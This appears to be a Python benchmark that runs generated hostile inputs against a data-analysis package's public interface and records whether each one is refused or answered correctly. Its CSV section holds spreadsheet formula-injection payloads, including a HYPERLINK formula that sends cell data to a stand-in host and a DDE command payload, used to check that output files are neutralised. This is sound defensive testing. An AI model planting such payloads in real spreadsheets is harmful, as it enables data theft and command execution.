"""An attack of generated hostile inputs on eight classes of weakness, with its rows.

Every input is generated from one seed and run against the installed package
through its public surface (``CREATOR``, ``creator fit``, ``CREATOR.load``,
the adapters, the simulators). Each row records what the input got:

* ``refused``: a ``ValueError`` or ``TypeError`` raised by the package's own
  code (the innermost frame is in ``creator_plugin``), naming what was
  wrong; on the command line, exit status 2 (or 128 + the signal's number
  for an interruption) with one ``error:`` line and no traceback;
* ``correct``: an answer checked against a reference computed another way
  (the same fit on arrays in the same order, the text read back, the
  previous output byte for byte, ...).

Anything else is a failure: ``library_traceback`` (an error raised inside
numpy, pandas, networkx, joblib, ...), ``unclear_error`` (ours, but not
naming what it should), ``silent_wrong`` (an answer that the check refutes,
or an input accepted that had to be refused), ``data_loss`` (an output or an
input file lost or changed) and ``unexpected`` (any other exception, such
as ``MemoryError``).

The classes: ``names`` (column names of every type), ``csv`` (outputs
opened in a spreadsheet), ``interrupt`` (signals and failures while
writing), ``values`` (data that are not measurements), ``library_errors``
(sparse input, networkx names, ``n_jobs``), ``graph_exports`` (DOT and
networkx), ``sizes`` (allocations beyond the physical memory),
``model_files`` (files with one relation broken).

Usage::

    OMP_NUM_THREADS=1 python benchmarks/hostile_attack.py --out benchmarks/results/hostile

writes ``rows.jsonl`` (one row per input) and ``summary.json`` (totals per
class and outcome). ``--sample K`` runs the K cheapest cases of every class
and writes nothing unless ``--out`` is given.
"""

from __future__ import annotations

import argparse
import contextlib
import errno
import hashlib
import io
import json
import os
import signal
import socket
import subprocess
import sys
import tempfile
import textwrap
import time
import traceback
import warnings
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass
from decimal import Decimal
from pathlib import Path

import numpy as np
import pandas as pd

import creator_plugin
import creator_plugin.adapters
from creator_plugin import CREATOR, simulate

CLASSES = ("names", "csv", "interrupt", "values", "library_errors", "graph_exports", "sizes",
           "model_files")
GOOD = ("refused", "correct")
PACKAGE_DIRS = (Path(creator_plugin.__file__).resolve().parent,
                Path(creator_plugin.adapters.__file__).resolve().parent)
COSTS = {"cheap": 0, "fit": 1, "subprocess": 2}


@dataclass
class Case:
    cls: str
    name: str
    description: str
    run: Callable[[], tuple[str, str]]
    cost: str = "cheap"


class Failed(Exception):
    """A check of an answer failed: the row is ``silent_wrong`` or ``data_loss``."""

    def __init__(self, outcome: str, detail: str):
        super().__init__(detail)
        self.outcome = outcome


# ------------------------------------------------------------------ helpers
def _ours(exc: BaseException) -> bool:
    """Whether the innermost frame of ``exc``'s traceback is in the package."""
    tb = exc.__traceback__
    last = None
    while tb is not None:
        last = tb.tb_frame.f_code.co_filename
        tb = tb.tb_next
    if last is None:
        return False
    path = Path(last).resolve()
    return any(d in path.parents for d in PACKAGE_DIRS)


def _short(text, n: int = 240) -> str:
    text = " ".join(str(text).split())
    return text if len(text) <= n else text[: n - 3] + "..."


def expect_refusal(fn: Callable, must_name: str | tuple[str, ...],
                   types=(ValueError, TypeError)) -> tuple[str, str]:
    """Run ``fn``; it must raise one of ``types`` from our code, naming ``must_name``."""
    names = (must_name,) if isinstance(must_name, str) else must_name
    try:
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            fn()
    except types as exc:
        if not _ours(exc):
            return "library_traceback", f"{type(exc).__name__}: {_short(exc)}"
        if not all(n in str(exc) for n in names):
            return "unclear_error", f"does not name {names}: {_short(exc)}"
        return "refused", f"{type(exc).__name__}: {_short(exc)}"
    except Exception as exc:  # noqa: BLE001 - every other exception is a finding
        return "unexpected", f"{type(exc).__name__}: {_short(exc)}"
    return "silent_wrong", "accepted an input that had to be refused"


def expect_answer(fn: Callable[[], str]) -> tuple[str, str]:
    """Run ``fn``, which checks its answer (raising :class:`Failed`) and says what it checked."""
    try:
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            detail = fn()
    except Failed as exc:
        return exc.outcome, _short(exc)
    except (ValueError, TypeError) as exc:
        kind = "silent_wrong" if _ours(exc) else "library_traceback"
        return kind, f"refused a valid input: {type(exc).__name__}: {_short(exc)}"
    except Exception as exc:  # noqa: BLE001
        return "unexpected", f"{type(exc).__name__}: {_short(exc)}"
    return "correct", _short(detail)


def check(condition: bool, what: str, outcome: str = "silent_wrong") -> None:
    if not condition:
        raise Failed(outcome, what)


def _fit(X, d: int = 2, **kw) -> CREATOR:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        return CREATOR(d, random_state=0, quality=False, **kw).fit(X)


def _sha(path: Path) -> str:
    return hashlib.sha256(Path(path).read_bytes()).hexdigest()


def _tree(root: Path) -> dict[str, str]:
    out = {}
    for dirpath, _, files in os.walk(root):
        for f in files:
            p = Path(dirpath, f)
            out[str(p.relative_to(root))] = _sha(p)
    return out


class World:
    """Shared inputs, built once: small simulations, fitted models, a scratch directory."""

    def __init__(self, seed: int):
        self.seed = seed
        self.rng = np.random.default_rng(seed)
        self.root = Path(tempfile.mkdtemp(prefix="creator-attack-"))
        self.sim = simulate(2, 2, 150, n_features=4, random_state=seed)
        self._model = None
        self._reference = {}
        self._saved = None
        self._graph_model = None

    def scratch(self, name: str) -> Path:
        path = self.root / name
        path.mkdir(parents=True)
        return path

    @property
    def model(self) -> CREATOR:
        if self._model is None:
            self._model = _fit(self.sim.X)
        return self._model

    def reference(self, order: tuple[int, ...]) -> CREATOR:
        """The fit on arrays whose columns are in ``order`` (names play no part)."""
        if order not in self._reference:
            self._reference[order] = _fit([x[:, list(order)] for x in self.sim.X])
        return self._reference[order]

    @property
    def graph_model(self) -> CREATOR:
        if self._graph_model is None:
            sim = simulate(3, 3, 200, n_features=3, random_state=0)
            self._graph_model = _fit(sim.X, 3)
        return self._graph_model

    @property
    def saved(self):
        if self._saved is None:
            path = self.scratch("saved") / "model.npz"
            sim = simulate(3, 3, 200, n_features=4, random_state=self.seed)
            X = [pd.DataFrame(x, columns=["a", "b", "c", "d"]) for x in sim.X]
            model = _fit(X, 3)
            model.save(path)
            with np.load(path, allow_pickle=False) as npz:
                arrays = {k: npz[k] for k in npz.files}
            meta = json.loads(arrays.pop("__metadata__").tobytes())
            self._saved = model, arrays, meta, sim
        return self._saved


# -------------------------------------------------------------------- names
P = 4


def _name_set(rng, kind: str) -> list:
    if kind == "str":
        pool = ["", " ", "x", "L1", "a b", "é", "名", "0", "1.0", "True", "nan", "x" * 300,
                "=1", "'q", "\\", '"', "a,b", "\n"]
        picked = rng.choice(len(pool), P, replace=False)
        return [pool[i] for i in picked]
    if kind == "int":
        return [int(v) for v in rng.choice(np.arange(-10**6, 10**6), P, replace=False)]
    if kind == "np_int":
        return [np.int32(v) for v in rng.choice(1000, P, replace=False)]
    if kind == "float":
        pool = [0.5, -0.0, 1e300, -1e-300, float("inf"), float("-inf"), 2.5, 3.25, 1e-9]
        return [pool[i] for i in rng.choice(len(pool), P, replace=False)]
    if kind == "np_float":
        return [np.float16(v) for v in rng.choice([0.5, 1.5, 2.5, 3.5, 4.5, 5.5], P,
                                                  replace=False)]
    if kind == "mixed_numbers":  # 1, 1.0 and True are three names
        return [1, 1.0, True, False]
    if kind == "bool_int":
        return [True, False, 0.25, int(rng.integers(2, 9))]
    if kind == "tuple":
        return [("g", 0), ("g", 1), (1, "h"), (2.5, True)]
    return [("a", 1), ("a", 2), ("b", 1), ("b", 2)]  # a MultiIndex


def _index(names: list, kind: str):
    if kind == "multiindex":
        return pd.MultiIndex.from_tuples(names)
    return pd.Index(names, dtype=object, tupleize_cols=False)


def _typed(v):
    if isinstance(v, tuple):
        return ("tuple", tuple(_typed(e) for e in v))
    plain = v
    if isinstance(v, (bool, np.bool_)):
        plain = bool(v)
    elif isinstance(v, (int, np.integer)):
        plain = int(v)
    elif isinstance(v, (float, np.floating)):
        plain = float(v)
    return (type(plain).__name__, plain)


def names_supported(world: World, i: int) -> Case:
    rng = np.random.default_rng([world.seed, 1, i])
    kinds = ["str", "int", "np_int", "float", "np_float", "mixed_numbers", "bool_int",
             "tuple", "multiindex"]
    kind = kinds[i % len(kinds)]
    names = _name_set(rng, kind)
    orders = [tuple(int(v) for v in rng.permutation(P)) for _ in range(2)]

    def run():
        index = _index(names, kind)
        frames = [pd.DataFrame(x, columns=index).iloc[:, list(o)]
                  for x, o in zip(world.sim.X, orders)]
        model = _fit(frames)
        first = orders[0]
        ref = world.reference(first)
        check(np.array_equal(model.components_, ref.components_),
              "the fit on frames differs from the fit on the same columns as arrays")
        fitted = [names[j] for j in first]
        check([_typed(c) for c in model.column_names_in_] == [_typed(c) for c in fitted],
              f"column_names_in_ {model.column_names_in_!r} is not {fitted!r}")
        check(hasattr(model, "feature_names_in_") == (kind == "str"),
              "feature_names_in_ present for non-string names (or absent for strings)")
        frame = pd.DataFrame(world.sim.X[1], columns=index).iloc[:, list(first)]
        check(np.array_equal(model.transform(frame), ref.transform(frame.to_numpy())),
              "transform of the fitted columns differs from the reference")
        other = [j for j in range(P)][::-1]
        try:
            model.transform(frame.iloc[:, other])
        except ValueError as exc:
            check("order" in str(exc), f"the permuted frame's error: {exc}")
        else:
            raise Failed("silent_wrong", "a frame with the columns in another order was "
                                         "transformed")
        path = world.scratch(f"names-{i}") / "m.npz"
        model.save(path)
        loaded = CREATOR.load(path)
        check([_typed(c) for c in loaded.column_names_in_] == [_typed(c) for c in fitted],
              "the names changed on save and load")
        check(np.array_equal(loaded.transform(frame), model.transform(frame)),
              "the loaded model transforms differently")
        return f"{kind} names, orders {orders}: matched, refused reversed, kept in the file"

    return Case("names", f"supported-{i:02d}", f"{kind} names {names!r}, env orders {orders}",
                lambda: expect_answer(run), "fit")


BAD_NAMES = [None, float("nan"), np.float64("nan"), b"raw", pd.Timestamp("2024-01-01"), 1 + 2j,
             frozenset({1}), Decimal("1.5"), np.datetime64("2024-01-01"), ("a", None),
             ("a", float("nan")), object, pd.NaT, slice(1)]


def names_unsupported(world: World, i: int) -> Case:
    rng = np.random.default_rng([world.seed, 2, i])
    bad = BAD_NAMES[i % len(BAD_NAMES)]
    pos = int(rng.integers(P))
    names = [10, 11, 12, 13]
    names[pos] = bad
    stacked = i % 2 == 1

    def fit():
        index = pd.Index(names, dtype=object, tupleize_cols=False)
        if stacked:
            X, env = world.sim.stacked()
            CREATOR(2).fit(pd.DataFrame(X, columns=index), environments=env)
        else:
            CREATOR(2).fit([pd.DataFrame(x, columns=index) for x in world.sim.X])

    return Case("names", f"unsupported-{i:02d}",
                f"column {pos} named {bad!r} ({'stacked' if stacked else 'list'})",
                lambda: expect_refusal(fit, f"column {pos}"))


def names_mismatch(world: World, i: int) -> Case:
    """A model fitted on one kind of names, a frame with the same values of another kind."""
    rng = np.random.default_rng([world.seed, 3, i])
    variants = [([0, 1, 2, 3], [0.0, 1.0, 2.0, 3.0]), ([0, 1, 2, 3], [True, 1, 2, 3]),
                (["a", "b", "c", "d"], [0, 1, 2, 3]), ([0, 1, 2, 3], ["0", "1", "2", "3"]),
                ([("a", 1), ("a", 2), ("b", 1), ("b", 2)], [("a", 1), ("a", 2), ("b", 1), 9]),
                (["a", "b", "c", "d"], ["a", "b", "c", "d", "lab"])]
    fitted, given = variants[i % len(variants)]
    extra = int(rng.integers(3))

    def run():
        model = _fit([pd.DataFrame(x, columns=_index(fitted, "object")) for x in world.sim.X])
        cols = _index(given, "object")
        data = np.column_stack([world.sim.X[0]] + [world.sim.X[0][:, :1]] *
                               (len(given) - P))
        frame = pd.DataFrame(data + extra, columns=cols)
        model.transform(frame)

    return Case("names", f"mismatch-{i:02d}", f"fitted on {fitted!r}, transform on {given!r}",
                lambda: expect_refusal(run, "fitted"), "fit")


# ---------------------------------------------------------------------- csv
FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r", "'=", "''+", "=="]
PAYLOADS = ['HYPERLINK("http://example.invalid/?q="&A1,"click")', "cmd|' /C calc'!A0",
            "1+1", "SUM(A1:A9)", "2", "DDE(\"x\")", "x", "IMPORTXML(A1,\"//a\")"]


def _hostile_texts(rng, n: int) -> list[str]:
    out = []
    while len(out) < n:
        text = str(rng.choice(FORMULA_STARTS)) + str(rng.choice(PAYLOADS))
        if rng.random() < 0.3:
            text += str(int(rng.integers(100)))
        if text not in out:
            out.append(text)
    return out


#: First characters that make a spreadsheet read a text cell as a formula (docs/safety.md).
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def _formula_cells(path: Path) -> list[str]:
    import csv

    with open(path, newline="", encoding="utf-8") as fh:
        cells = [c for row in csv.reader(fh) for c in row]
    bad = []
    for c in cells:
        try:
            float(c)
        except ValueError:
            if c[:1] in FORMULA_PREFIXES:
                bad.append(c)
    return bad


def _restored(value):
    """A text cell of creator's CSV as it was given: the ``'`` that docs/safety.md says
    creator writes before a formula's first character (or before ``'`` and one) removed."""
    if isinstance(value, str) and len(value.lstrip("'")) < len(value) and \
            value.lstrip("'")[:1] in FORMULA_PREFIXES:
        return value[1:]
    return value


def _read_back(path: Path, **kwargs) -> pd.DataFrame:
    """:func:`pandas.read_csv` of a file creator wrote, with every text cell, column name
    and index label :func:`_restored` (the documented format, not the package's reader)."""
    frame = pd.read_csv(path, **kwargs)
    text = pd.api.types.is_string_dtype  # object or string columns
    for j in range(frame.shape[1]):
        if text(frame.iloc[:, j].dtype):
            frame[frame.columns[j]] = frame.iloc[:, j].astype(object).map(_restored)
    frame.columns = pd.Index([_restored(c) for c in frame.columns], dtype=object)
    if text(frame.index.dtype):
        frame.index = pd.Index([_restored(v) for v in frame.index], dtype=object,
                               name=_restored(frame.index.name))
    return frame


def csv_cli(world: World, i: int) -> Case:
    rng = np.random.default_rng([world.seed, 4, i])
    labels = _hostile_texts(rng, 2)
    names = _hostile_texts(rng, P)
    env_col = str(rng.choice(["lab", "=env", "+site", "@where"]))

    def run():
        import csv

        from creator_plugin.cli import main

        root = world.scratch(f"csv-cli-{i}")
        X, env = world.sim.stacked()
        df = pd.DataFrame(X, columns=names)
        df[env_col] = np.array(labels, dtype=object)[env]
        # a well-formed input: pandas leaves a lone carriage return unquoted otherwise
        df.to_csv(root / "data.csv", index=False, quoting=csv.QUOTE_NONNUMERIC)
        before = _sha(root / "data.csv")
        with contextlib.redirect_stderr(io.StringIO()), contextlib.redirect_stdout(
                io.StringIO()):
            code = main(["fit", str(root / "data.csv"), "--env-column", env_col,
                         "--n-latent", "2", "--out", str(root / "out")])
        check(code == 0, f"creator fit exited {code}")
        check(_sha(root / "data.csv") == before, "the input file changed", "data_loss")
        for table in sorted((root / "out").glob("*.csv")):
            bad = _formula_cells(table)
            check(not bad, f"{table.name} has formula cells {bad[:3]}")
        lat = _read_back(root / "out" / "latents.csv", dtype={env_col: str})
        check(sorted(set(lat[env_col])) == sorted(labels), "labels not read back as written")
        loads = _read_back(root / "out" / "loadings.csv", index_col=0)
        check([str(n) for n in loads.index] == names, "names not read back as written")
        return f"{len(list((root / 'out').glob('*.csv')))} CSV files, no formula cell"

    return Case("csv", f"cli-{i:02d}", f"creator fit: labels {labels!r}, names {names!r}, "
                f"environment column {env_col!r}", lambda: expect_answer(run), "fit")


def csv_report(world: World, i: int) -> Case:
    rng = np.random.default_rng([world.seed, 5, i])
    labels = _hostile_texts(rng, 2)
    names = _hostile_texts(rng, P)

    def run():
        from creator_plugin.output_dir import OutputDir
        from creator_plugin.report import write_fit_report

        out = world.scratch(f"csv-report-{i}") / "out"
        X, env = world.sim.stacked()
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            model = CREATOR(2, random_state=0, quality=False).fit(
                pd.DataFrame(X, columns=names), environments=np.array(labels, dtype=object)[env])
        with OutputDir(out).write({}) as tmp:  # read back as creator's own files
            names_written = [p.name for p in write_fit_report(model, None, tmp)]
        root = out
        written = [out / name for name in names_written]
        for table in written:
            bad = _formula_cells(table)
            check(not bad, f"{table.name} has formula cells {bad[:3]}")
        back = _read_back(root / "intercepts.csv", index_col=0, dtype={0: str})
        check(sorted(str(v) for v in back.index) == sorted(labels),
              f"labels read back as {list(back.index)}")
        loads = _read_back(root / "loadings.csv", index_col=0)
        check(list(loads.index) == names, "names not read back as written")
        return "write_fit_report: no formula cell, read back"

    return Case("csv", f"report-{i:02d}", f"write_fit_report: labels {labels!r}, "
                f"names {names!r}", lambda: expect_answer(run), "fit")


def csv_writer(world: World, i: int) -> Case:
    rng = np.random.default_rng([world.seed, 6, i])
    texts = _hostile_texts(rng, P)

    def run():
        from creator_plugin.interpret import intercepts, loadings
        from creator_plugin.output_dir import OutputDir
        from creator_plugin.report import write_fit_report

        out = world.scratch(f"csv-writer-{i}") / "out"
        model = world.model  # fitted on arrays: the names come only from the argument
        with OutputDir(out).write({}) as tmp:  # read back as creator's own files
            write_fit_report(model, texts, tmp)
        for table in sorted(out.glob("*.csv")):
            check(not _formula_cells(table), f"{table.name} has formula cells")
        back = _read_back(out / "loadings.csv", index_col=0)
        check(list(back.index) == texts, "text not read back")
        numbers = (("loadings.csv", loadings(model, feature_names=texts)),
                   ("intercepts.csv", intercepts(model)))
        for name, table in numbers:
            read = back if name == "loadings.csv" else _read_back(out / name, index_col=0)
            check(np.array_equal(read.to_numpy(), table.to_numpy()), f"{name}: numbers changed")
        return "texts neutralised and restored, numbers unchanged"

    return Case("csv", f"writer-{i:02d}", f"write_fit_report(model fitted on arrays, "
                f"feature_names={texts!r})", lambda: expect_answer(run))


# ---------------------------------------------------------------- interrupt
CHILD = textwrap.dedent("""
    import os, signal, sys
    from creator_plugin import cli, estimator, output_dir, report
    how, moment = sys.argv[1], sys.argv[2]
    def hit():
        os.kill(os.getpid(), getattr(signal, how))
    if moment == "fit":
        real_fit = estimator.CREATOR.fit
        def fit(self, *a, **k):
            hit()
            return real_fit(self, *a, **k)
        estimator.CREATOR.fit = fit
    elif moment == "report":
        real_report = report.write_fit_report
        def write(*a, **k):
            out = real_report(*a, **k)
            hit()
            return out
        report.write_fit_report = write
    elif moment == "final":
        real_sync = output_dir._sync_tree
        def sync(root):
            hit()
            real_sync(root)
        output_dir._sync_tree = sync
    sys.exit(cli.main(["fit", "data.csv", "--env-column", "lab", "--n-latent", "2",
                       "--out", "out", *sys.argv[3:]]))
""")


def _child(root: Path, *args: str) -> subprocess.CompletedProcess:
    env = {**os.environ, "OMP_NUM_THREADS": "1",
           "PYTHONPATH": os.pathsep.join([str(PACKAGE_DIRS[0].parent),
                                          os.environ.get("PYTHONPATH", "")])}
    return subprocess.run([sys.executable, "child.py", *args], cwd=root, env=env,
                          capture_output=True, text=True, timeout=600)


def _prepare_child(world: World, name: str) -> Path:
    root = world.scratch(name)
    X, env = world.sim.stacked()
    df = pd.DataFrame(X, columns=["a", "b", "c", "d"])
    df["lab"] = np.array(["u", "v"])[env]
    df.to_csv(root / "data.csv", index=False)
    (root / "child.py").write_text(CHILD)
    return root


def _hidden(root: Path) -> list[Path]:
    return sorted(p for p in root.iterdir() if p.name.startswith(".out."))


def interrupt_signal(world: World, how: str, moment: str, force: bool) -> Case:
    from creator_plugin.output_dir import MARKER

    def run():
        root = _prepare_child(world, f"signal-{how}-{moment}-{force}")
        before = None
        if force:
            done = _child(root, "SIGCONT", "none")
            check(done.returncode == 0, f"the first run failed: {done.stderr[-300:]}")
            before = _tree(root / "out")
        data = _sha(root / "data.csv")
        done = _child(root, how, moment, *(["--force"] if force else []))
        check(_sha(root / "data.csv") == data, "the input changed", "data_loss")
        check("Traceback" not in done.stderr, f"a traceback: {done.stderr[-300:]}")
        signum = getattr(signal, how)
        out = root / "out"
        if how == "SIGKILL":
            check(done.returncode == -signum, f"exit {done.returncode}")
            if force:
                check(_tree(out) == before, "the previous output changed", "data_loss")
            else:
                check(not out.exists(), "a partial output at --out")
            hidden = _hidden(root)
            # killed during the fit, before the temporary directory exists: nothing to leave
            check(len(hidden) == (0 if moment == "fit" else 1), f"hidden directories {hidden}")
            again = _child(root, "SIGCONT", "none", *(["--force"] if force else []))
            check(again.returncode == 0, f"the next run failed: {again.stderr[-300:]}")
            check(_hidden(root) == [], "the next run left the dead run's directory")
            check((out / MARKER).is_file(), "the next run wrote no output")
            return "killed: --out as before, hidden directory removed by the next run"
        check(done.returncode == 128 + signum, f"exit {done.returncode}: {done.stderr[-200:]}")
        errors = [ln for ln in done.stderr.splitlines() if ln.startswith("error:")]
        check(errors == [f"error: interrupted by {how}; no partial results were left "
                         "behind."], f"stderr {done.stderr[-300:]}")
        check(_hidden(root) == [], f"hidden directories left: {_hidden(root)}")
        if moment == "final":  # held until the output was in place: it is whole
            check((out / MARKER).is_file() and len(_tree(out)) == 9,
                  f"the output is not whole: {sorted(_tree(out)) if out.exists() else None}")
            if force:
                check(_tree(out) != before, "the old output is still there")
        elif force:
            check(_tree(out) == before, "the previous output changed", "data_loss")
        else:
            check(not out.exists(), "an output appeared")
        return f"{how} during {moment}: exit {done.returncode}, nothing partial left"

    mode = "--force" if force else "new"
    return Case("interrupt", f"{how}-{moment}-{mode}",
                f"creator fit ({mode}) receives {how} during {moment}",
                lambda: expect_answer(run), "subprocess")


def interrupt_in_process(world: World, i: int) -> Case:
    from creator_plugin import output_dir
    from creator_plugin.output_dir import OutputDir

    rng = np.random.default_rng([world.seed, 7, i])
    points = ["writing", "_write_marker", "_sync_tree", "_exchange", "_own_contents",
              "_rename_noreplace"]
    point = points[i % len(points)]
    error = [KeyboardInterrupt, OSError, RuntimeError][int(rng.integers(3))]
    force = (bool(rng.integers(2)) or point in ("_exchange", "_own_contents")) and (
        point != "_rename_noreplace")  # a replacement is an exchange on Linux
    n_files = int(rng.integers(1, 5))
    at = int(rng.integers(n_files))

    def boom():
        if error is OSError:
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC), "disk")
        raise error("injected")

    def run():
        root = world.scratch(f"inproc-{i}")
        target = root / "out"
        before = None
        if force:
            with OutputDir(target).write({}) as tmp:
                (tmp / "old.csv").write_text("old")
            before = _tree(target)
        originals = {}
        if point != "writing":
            real = getattr(output_dir, point)
            calls = []

            def patched(*a, **k):
                calls.append(1)
                # _own_contents runs once when the directory is checked at the start
                if point != "_own_contents" or len(calls) == 2:
                    boom()
                return real(*a, **k)

            originals[point] = real
            setattr(output_dir, point, patched)
        raised = None
        try:
            out = OutputDir(target, force=force)
            with out.write({}) as tmp:
                for k in range(n_files):
                    if point == "writing" and k == at:
                        boom()
                    (tmp / f"f{k}.csv").write_text(str(k))
        except BaseException as exc:  # noqa: BLE001 - the injected error
            raised = exc
        finally:
            for name, fn in originals.items():
                setattr(output_dir, name, fn)
        check(raised is not None and (type(raised) is error or isinstance(raised, OSError)),
              f"the error was {raised!r}")
        left = sorted(p.name for p in root.iterdir())
        check(left == (["out"] if force else []), f"left {left}")
        if force:
            check(_tree(target) == before, "the previous output changed", "data_loss")
        return f"{error.__name__} at {point}: nothing left, previous output whole"

    return Case("interrupt", f"in-process-{i:02d}",
                f"{error.__name__} injected at {point} ({'force' if force else 'new'}, "
                f"{n_files} files)", lambda: expect_answer(run))


def interrupt_stale(world: World, i: int) -> Case:
    rng = np.random.default_rng([world.seed, 8, i])
    kind = ["dead", "alive", "other_host", "no_marker", "reused_pid", "symlink",
            "other_user_name"][i % 7]

    def run():
        from creator_plugin.output_dir import OWNER_MARKER, OutputDir

        root = world.scratch(f"stale-{i}")
        d = root / f".out.creator-tmp-{int(rng.integers(10**6))}"
        sleeper = None
        if kind == "symlink":
            real = root / "precious"
            real.mkdir()
            (real / "keep.txt").write_text("keep")
            os.symlink(real, d)
        else:
            d.mkdir()
            (d / "half.csv").write_text("1")
        host = socket.gethostname()
        if kind in ("dead", "reused_pid", "other_host", "alive", "other_user_name"):
            if kind == "alive":
                sleeper = subprocess.Popen([sys.executable, "-c",
                                            "import time; time.sleep(30)"])
                pid = sleeper.pid
            else:
                child = subprocess.Popen([sys.executable, "-c", "pass"])
                child.wait()
                pid = child.pid
            owner = {"tool": "creator-plugin", "pid": pid,
                     "host": host + ("-elsewhere" if kind == "other_host" else "")}
            if kind == "reused_pid":
                owner["pid"], owner["start_time"] = os.getpid(), "1"
            (d / OWNER_MARKER).write_text(json.dumps(owner))
        if kind == "other_user_name":
            d.rename(root / ".another.creator-tmp-1")
        try:
            with warnings.catch_warnings(record=True) as caught:
                warnings.simplefilter("always")
                OutputDir(root / "out")
        finally:
            if sleeper is not None:
                sleeper.kill()
                sleeper.wait()
        text = " ".join(str(w.message) for w in caught)
        if kind in ("dead", "reused_pid"):
            check(not os.path.lexists(d), "a dead run's directory was kept")
            check("removed" in text, "the removal was not reported")
        elif kind == "symlink":
            check(os.path.islink(d) and (root / "precious" / "keep.txt").exists(),
                  "a link was followed or removed", "data_loss")
        elif kind == "other_user_name":
            check((root / ".another.creator-tmp-1").exists(), "another output's directory "
                  "was removed", "data_loss")
        else:
            check(d.exists(), f"a {kind} directory was removed", "data_loss")
            check(str(d) in text, "it was not reported")
        return f"{kind}: {'removed' if not os.path.lexists(d) else 'kept'}"

    return Case("interrupt", f"stale-{i:02d}", f"a left temporary directory ({kind})",
                lambda: expect_answer(run))


# ------------------------------------------------------------------- values
def _value_inputs(rng, i: int):
    x = np.round(rng.standard_normal((150, P)) * 3, 3)
    options = [
        ("bool", x > 0, "booleans"),
        ("datetime64[ns]", (x * 1e9).astype("datetime64[ns]"), "dates"),
        ("datetime64[D]", x.astype("datetime64[D]"), "dates"),
        ("timedelta64[s]", x.astype("timedelta64[s]"), "durations"),
        ("complex128", x + 1j, "complex"),
        ("complex64 real", (x + 0j).astype(np.complex64), "complex"),
        ("str", x.astype(str), "text"),
        ("bytes", x.astype("S8"), "text"),
        ("object bools", (x > 0).astype(object), "booleans"),
        ("object datetimes", np.array([[pd.Timestamp(0)] * P] * 150, dtype=object),
         "holding Timestamp"),
        ("object None", np.where(x > 2, None, x).astype(object), "non-finite"),
        ("masked", np.ma.masked_greater(x, 1.0), "masked"),
        ("frame bool column", pd.DataFrame(x).assign(**{"flag": x[:, 0] > 0}).iloc[:, 1:],
         "mix strings"),
        ("frame boolean dtype", pd.DataFrame({"a": pd.array(x[:, 0] > 0, dtype="boolean"),
                                              "b": x[:, 1], "c": x[:, 2], "d": x[:, 3]}),
         "boolean columns"),
        ("frame datetime column", pd.DataFrame({"a": pd.to_datetime(x[:, 0] * 1e9),
                                                "b": x[:, 1], "c": x[:, 2], "d": x[:, 3]}),
         "non-numeric"),
        ("frame category", pd.DataFrame({"a": pd.Categorical(np.sign(x[:, 0])),
                                         "b": x[:, 1], "c": x[:, 2], "d": x[:, 3]}),
         "non-numeric"),
        ("frame Int64 NA", pd.DataFrame({"a": pd.array(np.where(x[:, 0] > 2, None,
                                                                 np.round(x[:, 0])),
                                                        dtype="Int64"),
                                         "b": x[:, 1], "c": x[:, 2], "d": x[:, 3]}),
         "non-finite"),
    ]
    accepted = [
        ("float16", x.astype(np.float16)), ("float32", x.astype(np.float32)),
        ("float64", x), ("int8", np.round(x).astype(np.int8)), ("int64", np.round(x * 100)
                                                                 .astype(np.int64)),
        ("uint16", np.abs(np.round(x * 100)).astype(np.uint16)),
        ("object Decimal", np.vectorize(lambda v: Decimal(str(v)))(x).astype(object)),
        ("masked without mask", np.ma.masked_array(x, mask=False)),
        ("frame Float64", pd.DataFrame(x).astype("Float64")),
        ("longdouble", x.astype(np.longdouble)),
    ]
    if i % 3 == 2:
        name, arr = accepted[(i // 3) % len(accepted)]
        return name, arr, None
    name, arr, pattern = options[i % len(options)]
    return name, arr, pattern


def values_case(world: World, i: int) -> Case:
    rng = np.random.default_rng([world.seed, 9, i])
    name, arr, pattern = _value_inputs(rng, i)
    where = ["transform", "fit list", "fit stacked"][i % 3] if pattern else "transform"

    def refuse():
        if where == "transform":
            world.model.transform(arr)
        elif where == "fit list":
            CREATOR(2).fit([arr, arr])
        else:
            CREATOR(2).fit(arr, environments=np.repeat([0, 1], 75))

    def answer():
        frame_like = hasattr(arr, "columns")
        out = world.model.transform(arr.to_numpy() if frame_like else arr)
        plain = (arr.to_numpy(dtype=float) if frame_like
                 else np.asarray(np.ma.getdata(arr)).astype(np.float64))
        check(np.array_equal(out, world.model.transform(plain)), "read as other numbers")
        return f"{name}: read as float64 exactly"

    if pattern is None:
        return Case("values", f"accepted-{i:02d}", f"{name} data to transform",
                    lambda: expect_answer(answer))
    return Case("values", f"refused-{i:02d}", f"{name} data to {where}",
                lambda: expect_refusal(refuse, pattern))


def values_csv(world: World, i: int) -> Case:
    rng = np.random.default_rng([world.seed, 10, i])
    flavour = ["True/False", "true/false", "TRUE/FALSE", "True/False with a blank",
               "yes/no"][i % 5]

    def run():
        from creator_plugin.cli import main

        root = world.scratch(f"values-csv-{i}")
        X, env = world.sim.stacked()
        df = pd.DataFrame(X, columns=["a", "b", "c", "d"])
        pos, neg = flavour.split(" ")[0].split("/")
        flag = np.where(rng.random(len(df)) > 0.5, pos, neg).astype(object)
        if "blank" in flavour:
            flag[0] = ""
        df["flag"] = flag
        df["lab"] = env
        df.to_csv(root / "d.csv", index=False)
        err = io.StringIO()
        with contextlib.redirect_stderr(err), contextlib.redirect_stdout(io.StringIO()):
            code = main(["fit", str(root / "d.csv"), "--env-column", "lab", "--n-latent",
                         "2", "--out", str(root / "o")])
        lines = err.getvalue().strip().splitlines()
        check(code == 2, f"exit {code}: a {flavour} column was fitted")
        check(len(lines) == 1 and "flag" in lines[0] and "Traceback" not in err.getvalue(),
              f"stderr {lines}", "unclear_error")
        check(not (root / "o").exists(), "an output was written")
        return f"refused: {lines[0][:120]}"

    def wrapped():
        outcome, detail = expect_answer(run)
        return ("refused" if outcome == "correct" else outcome), detail

    return Case("values", f"csv-{i:02d}", f"creator fit with a {flavour} text column",
                wrapped, "fit")


# ----------------------------------------------------------- library_errors
def library_sparse(world: World, i: int) -> Case:
    import scipy.sparse as sp

    formats = ["csr_matrix", "csc_matrix", "coo_matrix", "lil_matrix", "dok_matrix",
